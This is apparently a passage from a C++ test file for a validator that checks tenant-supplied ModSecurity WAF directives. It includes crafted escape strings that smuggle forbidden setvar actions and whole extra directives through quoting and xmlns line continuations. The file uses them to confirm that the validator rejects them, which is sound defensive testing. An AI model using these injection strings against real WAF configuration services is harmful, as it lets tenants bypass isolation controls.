       "SecAction \"id:2,phase:1,pass,nolog,setvar:tx.a,setvar:tx.b,msg:'q'\""},
      {"SecAction \"id:1,phase:1,pass,nolog,setvar:tx./a,setvar:tx.b,"
       "logdata:'q/,setvar:ip.blocked=1,logdata:z'\"",
       "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.a,setvar:tx.b,logdata:'q'\""},
      {"SecAction \"id:5,phase:1,pass,nolog\"\nSecRuleUpdateActionById 5 "
       "\"setvar:tx./a,setvar:tx.b,msg:'q/,setvar:user.u=1,msg:z'\"",
       "SecAction \"id:5,phase:1,pass,nolog\"\nSecRuleUpdateActionById 5 "
       "\"setvar:tx.a,setvar:tx.b,msg:'q'\""},
  };
  for (const auto& [escape, twin] : escapes) {
    CAPTURE(escape);
    expect_bad(waf::engine_check(escape, twin_scan(twin)),
               "setvar may only change TX variables (the WAF engine read one of ");
    expect_ok(waf::engine_check(twin, twin_scan(twin)));
  }
  expect_bad(waf::engine_check(escapes[0].first, twin_scan(escapes[0].second)), "of GLOBAL)");
  expect_bad(waf::engine_check(escapes[1].first, twin_scan(escapes[1].second)), "of IP)");
  expect_bad(waf::engine_check(escapes[2].first, twin_scan(escapes[2].second)), "of USER)");
  // A third family, found once the traps were in (they refused it before the scan did): a line
  // continuation after an xmlns value, which the engine reads as part of the value, so the line
  // break ended the actions and the next line ran as a directive of its own. Unsetting counts too.
  const std::string twin =
      "SecAction \"id:1,phase:1,pass,nolog\"\n"
      "SecRuleUpdateActionById 1 \"xmlns:a=http://x/,xmlns:b=http://y/,setvar:tx.k=1\"";
  for (const char* smuggled : {"setvar:global.x=1", "setvar:!session.z", "setvar:resource.r=+1"}) {
    const std::string escape = std::string(
                                   "SecAction \"id:1,phase:1,pass,nolog\"\n"
                                   "SecRuleUpdateActionById 1 \"xmlns:a=http://x/\\\n"
                                   "SecRuleUpdateActionById 1 ") +
                               smuggled + ",xmlns:b=http://y/\\\n#,setvar:tx.k=1\"";
    CAPTURE(escape);
    expect_bad(waf::engine_check(escape, twin_scan(twin)),
               "setvar may only change TX variables (the WAF engine read one of ");
    expect_bad(waf_directives(escape),
               "must not put blanks or line continuations in the value of xmlns (line 2)");
  }
  expect_ok(waf::engine_check(twin, twin_scan(twin)));
  // The same way, a directive the scan never saw reached the engine.
  expect_bad(waf_directives("SecAction \"id:1,phase:1,pass,nolog\"\n"
                            "SecRuleUpdateActionById 1 \"xmlns:a=http://x/\\\n"
                            "SecPcreMatchLimit 1 #\""),
             "must not put blanks or line continuations in the value of xmlns");
}

// The audit refuses an expirevar the engine kept, should the scan ever miss one.
TEST_CASE("the engine's expirevar is not a runtime action tenants may use") {
  CHECK_FALSE(waf::allowed_runtime_action("expireVar"));
  CHECK_FALSE(waf::allowed_runtime_action("expirevar"));
  CHECK_FALSE(waf::allowed_update_action("expirevar"));
  CHECK(waf::allowed_runtime_action("ctl"));
}

TEST_CASE("waf_directives returns the engine's message for rules it rejects") {
  const Bad bad[] = {
      {R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")",
       "Expecting an action, got: t:noSuchTransformation"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,status:99999999999")", "Not a valid number"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,sanitiseArg:password")", "not yet supported"},
      {R"(SecRule ARGS "@validateHash a" "id:1,deny")", "ValidateHash is not yet supported"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    auto p = waf_directives(r.in);
    expect_bad(p, "must be valid ModSecurity directives: ");
    expect_bad(p, r.why);
    if (p) {
      CHECK(p->find("File:") == std::string::npos);
      CHECK(p->find("<<") == std::string::npos);
      CHECK(p->find('\n') == std::string::npos);
    }
  }
}

TEST_CASE("waf_directives: one parse does not leak lexer state into the next") {
  // libmodsecurity 3.0.9 keeps a lexer flag set after SecRuleUpdateTargetById at the end of a text,
  // which made the next parse in the process fail.
  expect_ok(waf_directives("SecRuleUpdateTargetById 5 !ARGS:foo"));
  expect_ok(waf_directives(R"(SecRule ARGS:a|ARGS:b "@rx a" "id:1,deny")"));
  expect_bad(waf_directives("SecRuleUpdateTargetById 5 \"!ARGS:foo"), "");
  expect_ok(waf_directives(R"(SecRule ARGS "@rx a" "id:1,deny")"));
}

TEST_CASE("waf_directives is safe to call from several threads") {
  const std::string good = many_rules(20);
  const std::string bad = R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")";
  std::vector<std::thread> threads;
  std::vector<int> failures(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        if (waf_directives(good).has_value()) ++failures[t];
        if (!waf_directives(bad).has_value()) ++failures[t];
        if (waf_directives("SecRuleUpdateTargetById 5 !ARGS:foo").has_value()) ++failures[t];
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int f : failures) CHECK(f == 0);
}

TEST_CASE("waf_directives timing for 100 rules") {
  const std::string text = many_rules(100);
  auto start = std::chrono::steady_clock::now();
  constexpr int kRuns = 20;
  for (int i = 0; i < kRuns; ++i) expect_ok(waf_directives(text));
  auto per_run = std::chrono::duration_cast<std::chrono::microseconds>(
                     std::chrono::steady_clock::now() - start) /
                 kRuns;
  MESSAGE("validating " << text.size() << " bytes / 100 rules takes " << per_run.count() << " us");
  CHECK(per_run < std::chrono::seconds(1));
}

}  // namespace
}  // namespace gw::fields
